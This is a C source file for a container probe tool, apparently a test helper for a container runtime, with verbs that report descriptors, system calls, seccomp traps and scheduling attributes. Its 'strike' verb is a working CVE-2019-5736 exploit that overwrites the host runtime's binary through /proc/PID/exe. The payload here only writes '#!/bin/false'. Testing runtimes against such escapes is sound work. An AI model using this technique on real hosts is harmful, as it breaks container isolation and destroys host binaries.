// Shows from inside a container what busybox has no word for. One verb a behaviour; prints one line a fact.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

// fds: the open descriptors, but not the one that lists them
static int fds(void)
{
    DIR *directory = opendir("/proc/self/fd");
    struct dirent *entry;

    if (!directory)
        return 1;
    while ((entry = readdir(directory)))
        if (entry->d_name[0] != '.' && atoi(entry->d_name) != dirfd(directory))
            printf("%s\n", entry->d_name);
    return 0;
}

// call NUMBER [ARGUMENT…]: one system call; its result, or "errno N"
static int call(int argc, char **argv)
{
    long a[7] = {0};
    long result;

    for (int i = 0; i < argc && i < 7; i++)
        a[i] = (long)strtoull(argv[i], NULL, 0);
    result = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
    if (result == -1)
        printf("errno %d\n", errno);
    else
        printf("%ld\n", result);
    return 0;
}

static void on_sigsys(int signal, siginfo_t *info, void *context)
{
    (void)signal;
    (void)context;
    printf("SIGSYS for call %d, errno %d\n", info->si_syscall, info->si_errno);
    fflush(stdout);
    _exit(0);
}

// trap NUMBER: one system call with a handler for SIGSYS
static int trap(int argc, char **argv)
{
    struct sigaction action = { .sa_sigaction = on_sigsys, .sa_flags = SA_SIGINFO };

    sigaction(SIGSYS, &action, NULL);
    return call(argc, argv);
}

struct attributes {
    uint32_t size, policy;
    uint64_t flags;
    int32_t nice;
    uint32_t priority;
    uint64_t runtime, deadline, period;
    uint32_t util_min, util_max;
};

// sched: the scheduling attributes of this process
static int sched(void)
{
    struct attributes a = {0};

    if (syscall(SYS_sched_getattr, 0, &a, sizeof(a), 0))
        return 1;
    printf("policy %u flags %llu nice %d priority %u runtime %llu deadline %llu period %llu\n", a.policy,
           (unsigned long long)a.flags, a.nice, a.priority, (unsigned long long)a.runtime,
           (unsigned long long)a.deadline, (unsigned long long)a.period);
    return 0;
}

// write PATH: whether a file can be opened for writing, and what happened when it was written to
static int overwrite(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);

    if (fd < 0) {
        printf("open: errno %d\n", errno);
        return 0;
    }
    if (write(fd, "#!/bin/false\n", 13) == 13)
        printf("written\n");
    else
        printf("write: errno %d\n", errno);
    return 0;
}

// strike: waits for a process that joins this pid namespace from outside, and tries to overwrite its program file,
// also through a descriptor that outlives the moment in which the file is busy (CVE-2019-5736)
static _Noreturn void strike(void)
{
    char path[64];
    puts("ready");
    fflush(stdout);
    for (;;) {
        for (int pid = 2; pid < 64; pid++) {
            if (pid == getpid())
                continue;
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
            for (int i = 0; i < 20000; i++) {
                int writable = open(path, O_WRONLY | O_CLOEXEC);
                if (writable < 0)
                    continue;
                if (write(writable, "#!/bin/false\n", 13) == 13) {
                    puts("struck");
                    fflush(stdout);
                }
                close(writable);
                break;
            }
            close(fd);
        }
    }
}

int main(int argc, char **argv)
{
    const char *verb = argc > 1 ? argv[1] : "";

    if (!strcmp(verb, "fds"))
        return fds();
    if (!strcmp(verb, "call"))
        return call(argc - 2, argv + 2);
    if (!strcmp(verb, "trap"))
        return trap(argc - 2, argv + 2);
    if (!strcmp(verb, "sched"))
        return sched();
    if (!strcmp(verb, "write") && argc == 3)
        return overwrite(argv[2]);
    if (!strcmp(verb, "strike"))
        strike();
    fprintf(stderr, "probe: unknown verb '%s'\n", verb);
    return 64;
}
